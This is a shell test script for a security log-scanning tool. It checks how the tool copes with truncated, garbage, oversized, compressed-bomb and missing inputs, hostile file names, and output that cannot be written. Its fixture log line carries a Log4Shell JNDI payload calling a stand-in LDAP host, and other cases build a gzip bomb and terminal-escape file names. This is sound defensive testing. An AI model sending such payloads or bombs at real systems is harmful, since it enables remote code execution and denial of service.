#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
#
# Broken, hostile and missing input, and output that cannot be written: named,
# with the status of doc/contract.md, and everything else is read all the same.
. "$(dirname "$0")/lib/say.sh"

# A sound log beside each broken thing: its finding must be there.
mkdir "$dir/in"
# shellcheck disable=SC2016 # no shell is to expand it
echo '198.51.100.7 - - [11/Jul/2022:09:12:44 +0000] "GET /${jndi:ldap://x.example/a} HTTP/1.1" 404 5 "-" "x"' \
    >"$dir/in/sound.log"
sound='any(.[]; .rule.id == "log4shell")'

beside() {	# STATUS FILTER: what is in $dir/in, with the sound log
	hunt "$1" --quiet --format ndjson "$dir/in" &&
	has "$dir/out" "$sound" && has "$dir/out" "$2"
}
fresh() {
	find "$dir/in" -mindepth 1 ! -name sound.log -delete
}
unreadable() {	# jq filter: the file of this name is named as unreadable
	printf '.[-1].unreadable_inputs | any(.[]; .source | endswith("/%s"))' "$1"
}
quiet='.[-1] | .unreadable == 0'
pcap=$example/capture.pcap
evtx=$example/Security-WEB01.evtx

# -- broken files -----------------------------------------------------------------

: >"$dir/in/empty"
case_is "an empty file is no error" beside 0 "$quiet and .inputs == 2"
fresh

# Every length at the front of the formats, and some further on.
cut_short() {	# FILE
	for n in 1 2 3 4 5 7 8 12 16 23 24 25 31 39 40 41 55 100 127 128 129 \
	    511 512 4095 4096 4097 4200 5000 9000 65000; do
		head -c "$n" "$1" >"$dir/in/cut"
		"$PICKET" hunt --quiet --format ndjson "$dir/in" >"$dir/out" \
		    2>"$dir/err"
		got=$?
		case $got in 0|3) ;; *)
			echo "status $got at $n bytes"; cat "$dir/err"; return 1
		esac
		has "$dir/out" "$sound" || return 1
	done
}
for file in capture.pcap Security-WEB01.evtx access.log; do
	case_is "$file cut at many places" cut_short "$example/$file"
done
fresh
head -c 100000 "$pcap" >"$dir/in/cut.pcap"
truncated='any(.[]; .type == "weird" and .name == "file-truncated" and
    (.evidence.source | endswith("cut.pcap")) and .evidence.offset > 90000)'
case_is "a truncated capture: weird with its offset" beside 3 \
    "($truncated) and ($(unreadable cut.pcap))"
fresh

# Garbage behind each magic number: fixed noise, the same in every run.
noise() {	# BYTES
	awk -v n="$1" 'BEGIN { x = 12345; for (i = 0; i < n; i++) {
	    x = (x * 1103515245 + 12345) % 2147483648;
	    printf "%c", int(x / 65536) % 255 + 1 } }'
}
garbage() {
	i=0
	for magic in '\324\303\262\241\002\000\004\000' \
	    '\241\262\303\324\000\002\000\004' \
	    '\115\074\262\241' '\012\015\015\012\034\000\000\000\115\074\053\032' \
	    'ElfFile\000' 'ElfChnk\000' '\037\213\010\000' 'PK\003\004' \
	    '7z\274\257\047\034' '\375\067zXZ\000' 'BZh9' '\050\265\057\375' \
	    '{"a":' '[' '\377\376' '\376\377' '\357\273\277' '\000' 'x'; do
		i=$((i + 1))
		# shellcheck disable=SC2059 # it is a format
		{ printf "$magic"; noise 20000; } >"$dir/in/garbage.$i"
	done
	"$PICKET" hunt --quiet --format ndjson "$dir/in" >"$dir/out" \
	    2>"$dir/err"
	got=$?
	[ "$got" = 0 ] || [ "$got" = 3 ] || { echo "status $got"; return 1; }
	has "$dir/out" "$sound" && has "$dir/out" \
	    '.[-1].unreadable_inputs | all(.[]; .reason | test("crash") | not)'
}
case_is "garbage behind every magic number" garbage
fresh

# A pcap record of 4 GB; an EVTX record of 2 GB; a pcapng block of 4 GB.
huge() {
	{ head -c 24 "$pcap"; printf '\000\000\000\000\000\000\000\000'
	  printf '\377\377\377\377\377\377\377\377'; noise 100; } \
	    >"$dir/in/huge.pcap"
	{ head -c 4612 "$evtx"; printf '\377\377\377\177'
	  tail -c +4617 "$evtx"; } >"$dir/in/huge.evtx"
	{ printf '\012\015\015\012\034\000\000\000\115\074\053\032\001\000\000\000'
	  printf '\377\377\377\377\377\377\377\377\034\000\000\000'
	  printf '\001\000\000\000\374\377\377\377\001\000'; noise 100; } \
	    >"$dir/in/huge.pcapng"
	beside 3 '[.[] | select(.type == "weird") | .name] |
	    index("pcap-bad-record") and index("evtx-record-damaged") and
	    index("pcapng-bad-block")'
}
case_is "lengths that no file has" huge
fresh

bomb() {	# 128 MB of zeroes in 130 kB: the floor of the limit is 64 MB
	head -c 134217728 /dev/zero | gzip -9 >"$dir/in/bomb.gz"
	hunt 3 --quiet --format ndjson "$dir/in" || hunt 0 --quiet \
	    --format ndjson "$dir/in" || return 1
	has "$dir/out" "$sound"
}
case_is "a gz that expands a thousandfold" bomb
fresh
nested() {
	cp "$dir/in/sound.log" "$dir/x"
	for i in 1 2 3 4 5 6 7 8; do
		gzip -c "$dir/x" >"$dir/x.gz"
		mv "$dir/x.gz" "$dir/x"
	done
	mv "$dir/x" "$dir/in/nested"
	beside 0 'any(.[]; .type == "weird" and .name == "archive-depth-limit")
	    and .[-1].limits_hit == 1'
}
case_is "archives nested too deep: a limit, counted" nested
fresh
damaged() {
	gzip -c "$example/access.log" | head -c 20000 >"$dir/in/cut.gz"
	beside 3 "$(unreadable cut.gz)" && has "$dir/out" \
	    'any(.[]; .type == "weird" and .name == "archive-damaged")'
}
case_is "a damaged gz: read as far as it goes, and named" damaged
fresh
# One line of 40 MB without an end.
long_line() {
	head -c 40000000 /dev/zero | tr '\000' 'a' >"$dir/in/line.txt"
	hunt 0 --quiet --format ndjson --events "$dir/e" --kinds line \
	    "$dir/in" && has "$dir/out" "$sound" && has "$dir/out" \
	    'any(.[]; .type == "weird" and .name == "line-long")'
}
case_is "a line longer than is read" long_line
fresh
names() {
	cp "$dir/in/sound.log" "$dir/in/$(printf 'new\nline \033[2J"\\\377')"
	hunt 0 --quiet --format ndjson "$dir/in" && has "$dir/out" \
	    '[.[] | select(.rule.id == "log4shell").evidence[].source] |
	    any(test("new\nline"))' && hunt 0 "$dir/in" &&
	    ! LC_ALL=C grep -q "$(printf '\033')" "$dir/out"
}
case_is "hostile file names" names
fresh

# -- what is not there ---------------------------------------------------------------

missing() {
	hunt 3 --quiet --format ndjson "$dir/in" "$dir/nowhere" &&
	has "$dir/out" "$sound" && has "$dir/out" \
	    '.[-1].unreadable_inputs | length == 1 and
	    (.[0] | (.source | endswith("/nowhere")) and
	    (.reason | test("No such file")))'
}
case_is "a path that is not there" missing
no_folder() {
	mkdir "$dir/in/closed"
	cp "$dir/in/sound.log" "$dir/in/closed/x"
	chmod 0 "$dir/in/closed"
	beside 3 "$(unreadable closed)"
}
if [ "$(id -u)" = 0 ]; then
	echo "ok - a folder that may not be read # SKIP root reads everything"
else
	case_is "a folder that may not be read" no_folder
fi
chmod 755 "$dir/in/closed" 2>/dev/null
fresh
odd_kinds() {	# links in a circle, to nothing, a pipe that nobody writes to
	ln -s . "$dir/in/circle"
	ln -s nowhere "$dir/in/dangling"
	mkfifo "$dir/in/fifo"
	timeout 60 "$PICKET" hunt --quiet --format ndjson "$dir/in" \
	    >"$dir/out" 2>"$dir/err"
	got=$?
	[ "$got" = 0 ] || [ "$got" = 3 ] || { echo "status $got"; return 1; }
	has "$dir/out" "$sound" && has "$dir/out" \
	    '[.[] | select(.rule.id == "log4shell") | .count] == [1]'
}
case_is "links in circles, dangling links, pipes in a folder" odd_kinds
fresh
# The folder is listed first; a file that goes away after that is named.  The
# reader waits for standard input, so there is time to take it away.
vanished() {
	cp "$dir/in/sound.log" "$dir/gone.log"
	mkfifo "$dir/hold"
	"$PICKET" hunt --quiet --jobs 1 --format ndjson - "$dir/gone.log" \
	    "$dir/in" <"$dir/hold" >"$dir/out" 2>"$dir/err" &
	pid=$!
	exec 9>"$dir/hold"
	sleep 1
	rm "$dir/gone.log"
	exec 9>&-
	wait "$pid"
	got=$?
	[ "$got" = 3 ] || { echo "status $got"; return 1; }
	has "$dir/out" "$sound" && has "$dir/out" "$(unreadable gone.log)"
}
case_is "a file that vanishes" vanished
rm -f "$dir/hold"

# -- output that cannot be written ------------------------------------------------------

nowhere() {
	hunt 3 --quiet -o /nonexistent/x.ndjson "$dir/in" &&
	grep -q '/nonexistent/x.ndjson: .*No such file' "$dir/err"
}
case_is "-o into a folder that is not there" nowhere
events_nowhere() {
	hunt 3 --quiet --events /nonexistent/x "$dir/in" &&
	grep -q '/nonexistent/x: ' "$dir/err"
}
case_is "--events into a folder that is not there" events_nowhere
others() {	# the other outputs are written all the same
	hunt 3 --quiet -o /nonexistent/x.ndjson -o "$dir/good.ndjson" \
	    "$dir/in" && has "$dir/good.ndjson" '.[-1].type == "summary"'
}
case_is "other outputs are written all the same" others
full() {	# PICKET ARGS...: standard output is /dev/full
	"$PICKET" "$@" >/dev/full 2>"$dir/err"
	got=$?
	[ "$got" = 3 ] && grep -q 'standard output: .*No space' "$dir/err" &&
	    return 0
	echo "status $got"
	cat "$dir/err"
	return 1
}
if [ -c /dev/full ]; then
	case_is "full disk: text" full hunt "$dir/in"
	case_is "full disk: ndjson" full hunt --quiet --format ndjson "$dir/in"
	case_is "full disk: events" full hunt --events - "$dir/in"
	case_is "full disk: list" full list fields
	case_is "full disk: help" full hunt --help
	case_is "full disk: version" full --version
fi
closed() {	# ARGS...: standard output is closed from the start
	"$PICKET" "$@" >&- 2>"$dir/err"
	got=$?
	[ "$got" = 3 ] && grep -q 'standard output' "$dir/err" && return 0
	echo "status $got"
	cat "$dir/err"
	return 1
}
case_is "closed standard output: hunt" closed hunt "$dir/in"
case_is "closed standard output: list" closed list fields
# No room to spill (a small limit of file sizes stands for a full disk): the
# input is named with the reason, the others are read.
no_room() {
	cp "$example/access.log" "$dir/log"
	(
		trap '' XFSZ
		ulimit -f 8
		"$PICKET" hunt --quiet --jobs 1 --format ndjson \
		    --events /dev/null "$dir/log" "$dir/in" 2>"$dir/err"
		echo $? >&3
	) 3>"$dir/status" | cat >"$dir/out"
	[ "$(cat "$dir/status")" = 3 ] || { cat "$dir/status"; return 1; }
	has "$dir/out" '.[-1].unreadable_inputs | length == 1 and
	    (.[0] | (.source | endswith("/log")) and
	    (.reason | test("^cannot write")))' && has "$dir/out" "$sound"
}
case_is "no room to spill: named, the others are read" no_room
# No room for the report: status, message, no partial file, nothing left over.
no_report() {
	(
		trap '' XFSZ
		ulimit -f 1
		"$PICKET" hunt --quiet --jobs 1 -o "$dir/part.ndjson" \
		    "$dir/in" 2>&3
	) 3>"$dir/err"
	got=$?
	[ "$got" = 3 ] || { echo "status $got"; return 1; }
	grep -q 'part.ndjson: cannot write' "$dir/err" || return 1
	set -- "$dir"/part*
	[ ! -e "$1" ] || { echo "left over: $1"; return 1; }
}
case_is "no room for the report: no partial file" no_report
pipe() {	# a reader that goes away
	{ "$PICKET" hunt --events - "$example" 2>"$dir/err"; echo $? \
	    >"$dir/status"; } | head -n 1 >/dev/null
	got=$(cat "$dir/status")
	[ "$got" = 3 ] && grep -q 'standard output' "$dir/err" && return 0
	echo "status $got"
	cat "$dir/err"
	return 1
}
case_is "closed pipe" pipe
kept() {	# a report that was there stays when the new one cannot be
	echo old >"$dir/r.ndjson"
	(
		trap '' XFSZ
		ulimit -f 0
		"$PICKET" hunt --quiet --jobs 1 --no-default-rules -o \
		    "$dir/r.ndjson" /dev/null 2>/dev/null
	)
	got=$?
	[ "$got" != 0 ] && [ "$(cat "$dir/r.ndjson")" = old ]
}
case_is "the old report stays when the new one fails" kept
temp() {	# nowhere to spill is said, not crashed
	TMPDIR=/nonexistent "$PICKET" hunt --quiet --format ndjson "$dir/in" \
	    >"$dir/out" && has "$dir/out" "$sound"
}
case_is "TMPDIR that is not there: another place" temp
exit "$failed"
